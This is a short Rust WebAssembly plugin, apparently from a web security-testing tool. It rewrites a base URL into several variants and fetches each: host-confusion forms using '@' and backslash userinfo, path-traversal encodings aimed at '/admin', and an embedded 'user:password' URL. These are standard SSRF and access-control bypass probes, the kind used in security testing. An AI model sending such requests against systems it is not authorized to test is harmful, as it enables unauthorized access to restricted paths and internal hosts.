//! Bends {base-url} towards another host, another path and another user.
//! The input is the host and port of another place.
#![cfg(target_arch = "wasm32")]

use guest_common::{Error, get, guest, list, say, unquote};

guest!(act);

fn act(input: &str) -> Result<String, Error> {
    let other = unquote(input);
    let bent = [
        format!("{{base-url}}.{other}/"),
        format!("{{base-url}}@{other}/"),
        format!("{{base-url}}:80@{other}/"),
        format!("{{base-url}}\\@{other}/"),
        "{base-url}/../admin".to_owned(),
        "{base-url}/..%2fadmin".to_owned(),
        "{base-url}/%2e%2e/admin".to_owned(),
        "{base-url}/x\\..\\..\\admin".to_owned(),
        format!("http://user:password@{other}/"),
        format!("http://{other}/"),
    ];
    Ok(list(bent.iter().map(|url| say(&get(url)))))
}
